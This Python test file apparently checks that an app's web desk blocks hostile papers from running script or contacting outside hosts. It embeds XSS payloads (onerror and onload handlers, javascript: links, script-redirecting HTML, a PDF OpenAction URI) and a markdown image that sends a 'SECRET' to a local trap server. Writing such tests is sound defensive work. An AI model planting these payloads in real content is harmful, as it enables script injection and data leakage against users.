"""Attacks 17, 41 and 42 on the pages: what a hostile paper can make a browser do, whose code it runs,
what its addresses give away. See attacks.js; the desk's answers to plain HTTP are in test_safety.py."""
import http.server
import json
import sys
import threading

import web
from browser import browser, missing
from world import PASS, check, main

HTML = ('<img src="TRAP/html" onerror="alert(1)"><script src="TRAP/script"></script><style>@import "TRAP/css";'
        '</style><iframe src="TRAP/frame"></iframe><link rel="prefetch" href="TRAP/prefetch">')
HOSTILE = '''Read me. ![a map](TRAP/image?SECRET) [the map](TRAP/link) [run](javascript:alert(1))

HTML

<TRAP/auto> ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
'''
FILES = {'map.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="TRAP/svg"/></svg>',
         'map.html': '<script>location = "TRAP/file"</script>',
         'map.pdf': '%PDF-1.4\n1 0 obj <</OpenAction <</S /URI /URI (TRAP/pdf)>>>>\n'}


class Trap(http.server.BaseHTTPRequestHandler):
    came = []

    def do_GET(self):
        self.came.append(self.path)
        self.send_response(200)
        self.send_header('Access-Control-Allow-Origin', '*')
        self.end_headers()

    do_POST = do_OPTIONS = do_GET

    def log_message(self, *_):
        pass


def attacks(w):
    trap = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Trap)
    threading.Thread(target=trap.serve_forever, daemon=True).start()
    at = f'http://127.0.0.1:{trap.server_port}'
    more = []
    for name, text in FILES.items():
        (w.dir / name).write_text(text.replace('TRAP', at))
        more += ['--attach', w.dir / name]
    n = w.send('alpha', 'bravo.example', HOSTILE.replace('HTML', HTML.replace('<', '\\<'))
               .replace('TRAP', at), '--subject',
               f'<img src={at}/subject>', *more)
    w.run('bravo', 'sync')
    w.run('bravo', 'sign-for', n)
    w.run('alpha', 'sync')
    w.run('alpha', 'disclose', n, '--all')
    w.run('alpha', 'statement', HTML.replace('TRAP', at))
    w.run('alpha', 'publish', w.dir / 'pub')
    w.run('bravo', 'sync')
    code, version, _ = w.raw(['--version', '--json'])
    check(code == 0, 'the version')
    paper = f'/h/1/talks/strait/papers/{n.replace("/", "-")}'
    with web.Desk(w, 'bravo') as d:
        browser(w, 'attacks.js', {'link': d.link, 'token': d.token, 'base': f'http://{d.host}',
                                  'pass': PASS, 'papers': [paper], 'trap': at,
                                  'folder': (w.dir / 'pub').as_uri(),
                                  'version': json.loads(version),
                                  'changed': str(w.dir / 'changed.html')})
    trap.shutdown()
    check(Trap.came == [], f'somebody came: {Trap.came}')


if missing():
    print(f'skip: {missing()} is missing')
    sys.exit(77)
sys.exit(main([attacks]))
